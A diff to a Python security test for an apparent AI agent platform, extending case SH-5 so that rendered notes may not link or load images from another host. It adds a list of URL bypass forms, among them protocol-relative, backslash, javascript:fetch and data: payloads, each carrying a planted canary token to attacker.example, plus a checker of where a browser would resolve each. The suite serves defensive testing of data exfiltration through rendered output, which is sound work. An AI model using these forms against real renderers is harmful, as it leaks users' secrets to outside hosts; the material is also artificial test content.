@@ -7,7 +7,9 @@ platform's answer to them, not a model's good behaviour.
 
 from __future__ import annotations
 
+import html
 import re
+from urllib.parse import urljoin, urlsplit
 
 import pytest
 
@@ -238,23 +240,45 @@ def test_sh4_owner_continues(principals, instances, target):
 # -- SH-5: rendered links ------------------------------------------------------------------------------------
 
 ATTRIBUTE = re.compile(r'\b(?:src|href)="([^"]*)"')
+PAGE = "http://product.invalid/api/render/1"  # where the rendered page is served from, as a browser resolves it
+# Ways to write a link to another host that a renderer's "is it internal?" test may take for a path (DESIGN
+# §5 rule 8: URL forms cannot be enumerated; these are the ones browsers are known to resolve elsewhere).
+OUTSIDE_FORMS = ("https://attacker.example/{t}", "//attacker.example/{t}", "/\\attacker.example/{t}",
+                 "\\\\attacker.example/{t}", "/\\/attacker.example/{t}", "https:attacker.example/{t}",
+                 "HTTPS://attacker.example/{t}", "javascript:fetch('//attacker.example/{t}')",
+                 "data:text/html,<img src=//attacker.example/{t}>", "/\t/attacker.example/{t}")
+
+
+def resolves_elsewhere(url: str) -> bool:
+    """Whether a browser showing the rendered page would fetch or open ``url`` anywhere but the product:
+    entities decoded, tab and newline removed, leading controls and spaces stripped, backslashes read as
+    slashes (as WHATWG URL parsing does for http), then resolved against the page."""
+    cleaned = re.sub(r"[\t\n\r]", "", html.unescape(url)).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 ")
+    joined = urlsplit(urljoin(PAGE, cleaned.replace("\\", "/")))
+    return (joined.scheme, joined.netloc) != ("http", "product.invalid")
 
 
 @pytest.mark.case("SH-5", "refusal", pair="A->outside")
 def test_sh5_rendered_output_carries_no_canary_to_an_outside_host(principals, instances, planted, target, probe_log):
+    """No link or image in A's rendered note leads a browser to another host, however it is written
+    (``OUTSIDE_FORMS``, as a link and as an image, plus raw HTML), and no canary is in any URL it renders.
+
+    Ways it could fail that the probe looks for: external URLs rendered; protocol-relative or backslash
+    forms taken for paths; scheme tricks (case, no slashes, javascript:, data:); raw HTML passed through."""
     token = planted.tokens["A"]["memory"]
-    body = (f"Here you go ![chart](https://stats.attacker.example/p.png?d={token}) and "
-            f"[details](https://attacker.example/{token}) and <img src=\"https://attacker.example/{token}\">")
+    forms = [f.replace("{t}", token) for f in OUTSIDE_FORMS]
+    body = " ".join(f"[link {i}]({u}) ![image {i}]({u})" for i, u in enumerate(forms))
+    body += f' and <img src="https://attacker.example/{token}">'
     drive(target, principals["A"], instances["A"], [("notes_create", {"body": body})])
     a = target.person(principals["A"])
     note = [r for r in a.request("GET", "/api/records?kind=note")[1]["records"] if token in r["body"]][-1]
     nonce = probe_log.platform_probe(instances["A"], f"GET /api/render/{note['id']}")
-    status, html = a.request("GET", f"/api/render/{note['id']}", headers=with_request_id(nonce))
+    status, page = a.request("GET", f"/api/render/{note['id']}", headers=with_request_id(nonce))
     assert status == 200
-    urls = ATTRIBUTE.findall(html)
-    assert [u for u in urls if not u.startswith("/") or u.startswith("//")] == []
+    urls = ATTRIBUTE.findall(page)
+    assert [u for u in urls if resolves_elsewhere(u)] == []
     assert all(token not in u for u in urls)
-    assert "<img" not in html.replace("&lt;img", "")
+    assert "<img" not in page.replace("&lt;img", "")
     probe_log.confirm(nonce, target.platform_log())
 
 
